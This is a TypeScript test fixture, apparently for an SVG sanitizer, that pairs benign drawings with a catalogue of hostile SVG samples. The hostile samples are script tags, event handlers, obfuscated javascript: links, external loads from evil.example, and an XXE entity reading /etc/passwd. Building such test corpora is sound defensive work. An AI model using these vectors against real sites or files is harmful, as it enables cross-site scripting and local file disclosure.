const around = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${inner}</svg>`;

const run = 'globalThis.ran=1;parent.ran=1';
const away = 'https://evil.example/a';

/** SVG drawings that run something, or ask another host for something, when a browser opens them; each by what it does. */
export const hostileDrawings: Record<string, string> = {
  'a script': around(`<script>${run}</script>`),
  'a script in CDATA': around(`<script><![CDATA[${run}]]></script>`),
  'a script by its address': around(`<script href="${away}.js"/>`),
  'a script with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${run}</s:script></s:svg>`,
  'a script of HTML': around(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`),
  'an event at its root': around('', `onload="${run}"`),
  'an event of an animation': around(`<rect><animate attributeName="x" dur="1s" onbegin="${run}"/></rect>`),
  'a page within': around(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject>`,
  ),
  'a frame': around(
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}"/></foreignObject>`,
  ),
  'a link that is a script': around(`<a href="javascript:${run}"><text>x</text></a>`),
  'an old link that is a script': around(`<a xlink:href=" java&#10;script:${run}"><text>x</text></a>`),
  'a link that becomes a script': around(
    `<a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a>`,
  ),
  'an old link that becomes one': around(
    `<a><set attributeName="xlink:href" to="javascript:${run}"/><text>x</text></a>`,
  ),
  'a part of another file': around(`<use href="${away}.svg#a"/>`),
  'a part of a file in itself': around(
    '<use xlink:href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4#a"/>',
  ),
  'a picture from elsewhere': around(`<image href="${away}.png" width="9" height="9"/>`),
  'a drawing in itself': around('<image href="data:image/svg+xml,%3Csvg onload=x%3E" width="9" height="9"/>'),
  'a style from elsewhere': around(`<style>@import "${away}.css";</style>`),
  'a style with an address': around(`<style>rect{fill:url(${away}.svg#a)}</style><rect/>`),
  'an escaped address': around(`<style>rect{fill:\\75 rl(${away}.svg#a)}</style><rect/>`),
  'an address in an attribute': around(`<rect style="fill:url('${away}.svg#a')"/>`),
  'a style sheet': `<?xml-stylesheet type="text/css" href="${away}.css"?>${around('')}`,
  'a style sheet that is a program': `<?xml-stylesheet type="text/xsl" href="${away}.xsl"?>${around('')}`,
  'a word that is a file': `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${around('<text>&e;</text>')}`,
  'a word that is a script': `<!DOCTYPE svg [<!ENTITY e "&#60;script>${run}&#60;/script>">]>${around('&e;')}`,
  'what is no XML behind a script': `${around(`<script>${run}</script>`)}<`,
  'what is no XML': around('<g><rect</g>'),
};

/** As drawing programs write them. */
export const plainDrawings: Record<string, string> = {
  'a shape': around('<rect width="9" height="9" fill="#c00"/>'),
  'a gradient and what uses it': around(
    '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><rect style="fill:url(#g)" width="9" height="9"/><use href="#g"/>',
  ),
  'a style': around('<style>.a{fill:url("#g");stroke:red}</style><circle class="a" r="3"/>'),
  'a photo in itself': around('<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>'),
  'a link to the web': around('<a href="https://www.ilo.org/"><text>ILO</text></a>'),
  'a movement': around('<circle r="1"><animate attributeName="r" values="1;3" dur="2s"/></circle>'),
  'what Inkscape writes':
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3"><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work xmlns:cc="http://creativecommons.org/ns#" rdf:about=""/></rdf:RDF></metadata><path d="M0 0h9"/></svg>',
};
